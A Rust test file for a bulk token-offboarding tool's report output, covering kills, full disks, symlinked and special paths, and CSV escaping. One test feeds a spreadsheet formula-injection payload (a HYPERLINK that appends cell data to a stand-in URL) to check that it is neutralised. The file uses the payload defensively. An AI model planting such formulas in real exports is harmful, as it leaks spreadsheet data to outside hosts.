//! The report's file: what is refused before the first request, what is on disk after a kill, and where rows go that it cannot take.
#![cfg(unix)]

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::process::Command;
use std::time::Duration;

use bulk_endpoint::testing::{FakeServer, Fault};
use serde_json::Value;

use crate::support::{
    Folder, at, count, csp, end, fake_csp, kill, offboard, offboard_after, report, run, start, stderr, stdout, tokens,
    until,
};

/// A fake CSP that responds to the first `quick` requests at once, and to the others after 20 s.
async fn stalling(quick: usize) -> FakeServer {
    let stall = move |request: &bulk_endpoint::testing::FakeRequest| {
        (request.number >= quick).then(|| Fault::late(Duration::from_secs(20)))
    };
    fake_csp().on_request(stall).start().await.unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_settled_before_a_kill_is_on_disk() {
    for format in ["json", "csv"] {
        let csp = stalling(3).await;
        let folder = Folder::new(&format!("kill-{format}"));
        let input = folder.file("in.csv", &tokens(100));
        let path = folder.file(&format!("out.{format}"), "an older report");
        let partial = folder.path(&format!("out.partial.{format}"));
        let arguments = at(csp.url(), &input, &["--report", &path, "--concurrency", "1", "--no-journal"]);
        let child = start(offboard(&arguments));
        until(|| csp.request_count() == 4).await;
        // Rows are written soon after they settle, perhaps while the next request is on its way.
        until(|| fs::read_to_string(&partial).is_ok_and(|text| text.contains("44"))).await;
        kill(&child, "KILL");
        let output = end(child).await;

        assert_eq!(fs::read_to_string(&path).unwrap(), "an older report");
        assert!(stdout(&output).contains(&format!("Outcomes are written to {partial:?}")), "{}", stdout(&output));
        let ids: Vec<String> = match format {
            "json" => report(&partial).iter().map(|row| row["id"].as_str().unwrap().to_owned()).collect(),
            _ => {
                let text = fs::read_to_string(&partial).unwrap();
                assert!(text.ends_with('\n'), "{text}");
                text.lines().skip(1).map(|line| line.split(',').nth(2).unwrap().to_owned()).collect()
            }
        };
        assert_eq!(ids, (0..45).map(|id| id.to_string()).collect::<Vec<_>>());

        // Another run does not overwrite it.
        let before = (fs::read(&partial).unwrap(), csp.request_count());
        let output = run(offboard(&arguments)).await;
        assert_eq!(output.status.code(), Some(2));
        assert!(stderr(&output).contains("is not finished or was killed; move it away"), "{}", stderr(&output));
        assert_eq!((fs::read(&partial).unwrap(), csp.request_count()), before);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_report_that_is_the_input_is_refused() {
    let csp = csp(Duration::ZERO).await;
    let folder = Folder::new("same");
    let content = "identity_id,token_id\na,1\n";
    let input = folder.file("in.csv", content);
    fs::create_dir(folder.path("sub")).unwrap();
    symlink(&folder.0, folder.path("here")).unwrap();
    symlink(&input, folder.path("link.csv")).unwrap();
    symlink("link.csv", folder.path("link-of-link.csv")).unwrap();
    fs::hard_link(&input, folder.path("hard.csv")).unwrap();
    fs::hard_link(&input, folder.path("hard.json")).unwrap();
    for (given, name) in [
        ("in.csv", "in.csv"),
        ("in.csv", "link.csv"),
        ("in.csv", "link-of-link.csv"),
        ("in.csv", "hard.csv"),
        ("in.csv", "hard.json"),
        ("in.csv", "sub/../in.csv"),
        ("in.csv", "here/in.csv"),
        ("link.csv", "in.csv"),
        ("hard.csv", "link.csv"),
    ] {
        let (given, name) = (folder.path(given), folder.path(name));
        let output = run(offboard(&at(csp.url(), &given, &["--report", &name]))).await;
        assert_eq!(output.status.code(), Some(2), "{name}");
        assert!(stderr(&output).contains("it is the file of --input"), "{name}: {}", stderr(&output));
        assert_eq!(fs::read_to_string(&input).unwrap(), content, "{name}");
    }
    // Through a descriptor of the shell.
    let output =
        run(offboard_after(&format!("exec <{input}"), &at(csp.url(), "/dev/stdin", &["--report", &input]))).await;
    assert!(stderr(&output).contains("it is the file of --input"), "{}", stderr(&output));
    assert_eq!(fs::read_to_string(&input).unwrap(), content);
    assert_eq!(csp.request_count(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_cannot_be_a_report_is_refused_before_the_first_request() {
    let csp = csp(Duration::ZERO).await;
    let folder = Folder::new("places");
    let input = folder.file("in.csv", "identity_id,token_id\na,1\n");
    fs::create_dir(folder.path("folder.json")).unwrap();
    assert!(Command::new("mkfifo").arg(folder.path("fifo.json")).status().unwrap().success());
    symlink("/dev/stdout", folder.path("stdout.json")).unwrap();
    symlink("/dev/null", folder.path("null.csv")).unwrap();
    symlink("/dev/full", folder.path("full.csv")).unwrap();
    symlink(folder.path("nothing.json"), folder.path("dangling.json")).unwrap();
    fs::create_dir(folder.path("locked")).unwrap();
    fs::set_permissions(folder.path("locked"), fs::Permissions::from_mode(0o555)).unwrap();
    let mut cases = vec![
        (folder.path("folder.json"), "expected a file, found a directory"),
        (folder.path("fifo.json"), "expected a file, found a device or a pipe"),
        (folder.path("stdout.json"), "expected a file, found a device or a pipe"),
        (folder.path("null.csv"), "expected a file, found a device or a pipe"),
        (folder.path("full.csv"), "expected a file, found a device or a pipe"),
        (folder.path("dangling.json"), "a symbolic link to a file that does not exist"),
        (folder.path("missing/out.json"), "its directory does not exist"),
        (folder.path("in.csv/out.json"), "Not a directory"),
        (folder.path(&format!("{}.json", "x".repeat(300))), "File name too long"),
        ("/dev/stdout".into(), "must end with ."),
        ("/dev/null".into(), "must end with ."),
        (folder.path("out"), "must end with ."),
    ];
    // The superuser may write anywhere.
    if fs::write(folder.path("locked/probe"), "").is_err() {
        cases.push((folder.path("locked/out.json"), "Permission denied"));
    }
    if fs::metadata("/proc/self").is_ok() {
        cases.push(("/proc/out.json".into(), "/proc/out.partial.json\" (nothing was sent)"));
    }
    for (path, want) in cases {
        let output = run(offboard(&at(csp.url(), &input, &["--report", &path, "--no-journal"]))).await;
        assert_eq!(output.status.code(), Some(2), "{path}");
        assert!(stderr(&output).contains(want), "{path}: {}", stderr(&output));
    }
    assert!(!fs::exists(folder.path("nothing.json")).unwrap());
    assert_eq!(csp.request_count(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_full_disk_before_the_run_is_told_before_the_first_request() {
    let csp = csp(Duration::ZERO).await;
    let folder = Folder::new("full-before");
    let input = folder.file("in.csv", &tokens(10));
    let path = folder.file("out.json", "an older report");
    let arguments = at(csp.url(), &input, &["--report", &path, "--no-journal"]);
    let output = run(offboard_after("trap '' XFSZ; ulimit -f 0", &arguments)).await;
    assert_eq!(output.status.code(), Some(2));
    assert!(stderr(&output).contains("File too large"), "{}", stderr(&output));
    assert_eq!(fs::read_to_string(&path).unwrap(), "an older report");
    assert!(!fs::exists(folder.path("out.partial.json")).unwrap());
    assert_eq!(csp.request_count(), 0);
}

/// A limit on the size of a file fails as a full disk does.
#[tokio::test(flavor = "multi_thread")]
async fn a_full_disk_stops_the_run_and_every_row_is_in_the_file_or_printed() {
    // With one block of 512 or 1 024 bytes, not even the first rows are in the file.
    for (format, blocks) in [("json", 4), ("csv", 4), ("json", 1), ("csv", 1)] {
        let csp = csp(Duration::from_millis(20)).await;
        let folder = Folder::new(&format!("full-{format}-{blocks}"));
        let input = folder.file("in.csv", &tokens(300));
        let path = folder.file(&format!("out.{format}"), "an older report");
        let partial = folder.path(&format!("out.partial.{format}"));
        let arguments = at(csp.url(), &input, &["--report", &path, "--concurrency", "1", "--no-journal"]);
        let output = run(offboard_after(&format!("trap '' XFSZ; ulimit -f {blocks}"), &arguments)).await;

        assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
        assert!(stderr(&output).contains("so the run was stopped: File too large"), "{}", stderr(&output));
        assert!(stderr(&output).contains("are printed above"), "{}", stderr(&output));
        assert_eq!(fs::read_to_string(&path).unwrap(), "an older report");
        let printed = stdout(&output);
        let (on_disk, printed): (Vec<Value>, Vec<Value>) = match format {
            "json" => {
                let array = &printed[printed.find('[').unwrap()..];
                let end = array.find("\n]\n").unwrap() + 3;
                (report(&partial), serde_json::from_str(&array[..end]).unwrap())
            }
            _ => (csv_rows(&fs::read_to_string(&partial).unwrap()), csv_rows(&printed)),
        };
        let rows = [on_disk.as_slice(), &printed].concat();
        assert_eq!((on_disk.is_empty(), rows.len()), (blocks == 1, 300), "{} + {}", on_disk.len(), printed.len());
        assert!(count(&rows, "not_attempted") > 200, "the run was stopped");
        assert_eq!(count(&rows, "succeeded"), csp.applied_count());
    }
}

/// The rows in a text that contains a CSV report.
fn csv_rows(text: &str) -> Vec<Value> {
    let rows = text.lines().skip_while(|line| !line.starts_with("provider,operation,id,")).skip(1);
    let rows = rows.take_while(|line| line.starts_with("csp,")).map(|line| line.split(',').collect::<Vec<_>>());
    rows.map(|cells| serde_json::json!({ "id": cells[2], "outcome": cells[3] })).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_report_that_is_deleted_during_the_run_is_printed() {
    let csp = csp(Duration::from_millis(300)).await;
    let folder = Folder::new("deleted");
    let (input, path) = (folder.file("in.csv", &tokens(30)), folder.path("out.json"));
    let child = start(offboard(&at(csp.url(), &input, &["--report", &path])));
    until(|| csp.request_count() > 0).await;
    fs::remove_file(folder.path("out.partial.json")).unwrap();
    let output = end(child).await;
    assert_eq!(output.status.code(), Some(1));
    assert!(stderr(&output).contains("was deleted during the run; it is printed above"), "{}", stderr(&output));
    assert_eq!(stdout(&output).matches("\"succeeded\"").count(), 30, "{}", stdout(&output));
    assert!(!fs::exists(&path).unwrap());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_report_that_cannot_get_its_name_is_kept() {
    let csp = csp(Duration::from_millis(300)).await;
    let folder = Folder::new("renamed");
    let (input, path) = (folder.file("in.csv", &tokens(30)), folder.path("out.json"));
    let child = start(offboard(&at(csp.url(), &input, &["--report", &path])));
    until(|| csp.request_count() > 0).await;
    fs::create_dir(&path).unwrap();
    let output = end(child).await;
    assert_eq!(output.status.code(), Some(1));
    let partial = folder.path("out.partial.json");
    assert!(stderr(&output).contains(&format!("it is in {partial:?}")), "{}", stderr(&output));
    assert_eq!(count(&report(&partial), "succeeded"), 30);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_older_report_is_replaced_behind_its_link_and_with_its_permissions() {
    let csp = csp(Duration::ZERO).await;
    let folder = Folder::new("older");
    let input = folder.file("in.csv", &tokens(3));
    fs::create_dir(folder.path("archive")).unwrap();
    let old = folder.file("archive/old.json", &"x".repeat(10_000));
    fs::set_permissions(&old, fs::Permissions::from_mode(0o600)).unwrap();
    symlink("archive/old.json", folder.path("out.json")).unwrap();
    let output = run(offboard(&at(csp.url(), &input, &["--report", &folder.path("out.json")]))).await;
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(fs::symlink_metadata(folder.path("out.json")).unwrap().is_symlink());
    assert_eq!((report(&old).len(), fs::metadata(&old).unwrap().mode() & 0o777), (3, 0o600));
    let left: Vec<_> = fs::read_dir(folder.path("archive")).unwrap().collect();
    assert_eq!(left.len(), 1, "{left:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_csv_report_has_no_formulas_and_json_is_exact() {
    let csp = csp(Duration::ZERO).await;
    let folder = Folder::new("formulas");
    let evil = r#"=HYPERLINK("http://x?"&A1,"a,b")"#;
    // Quotation marks are refused in ids, so the formula has none.
    let evil = evil.replace('"', "'");
    let input = folder.file("in.csv", &format!("identity_id,token_id\na,\"{evil}\"\na,+1\na,-1\na,@x\na,ok\n"));
    let (json, csv) = (folder.path("out.json"), folder.path("out.csv"));
    run(offboard(&at(csp.url(), &input, &["--report", &json]))).await;
    run(offboard(&at(csp.url(), &input, &["--report", &csv]))).await;

    let rows = report(&json);
    let mut ids: Vec<&str> = rows.iter().map(|row| row["id"].as_str().unwrap()).collect();
    ids.sort_unstable();
    assert_eq!(ids, ["+1", "-1", &evil, "@x", "ok"]);
    assert!(rows.iter().any(|row| row["message"] == evil.as_str()), "{rows:?}");

    let text = fs::read_to_string(&csv).unwrap();
    for line in text.lines().skip(1) {
        assert!(line.starts_with("csp,deactivate,"), "{line}");
    }
    for want in [
        format!(",\"'{evil}\",failed,200,,\"'{evil}\",\n"),
        ",'+1,".into(),
        ",'-1,".into(),
        ",'@x,".into(),
        ",ok,".into(),
    ] {
        assert!(text.contains(&want), "{want} in {text}");
    }
}
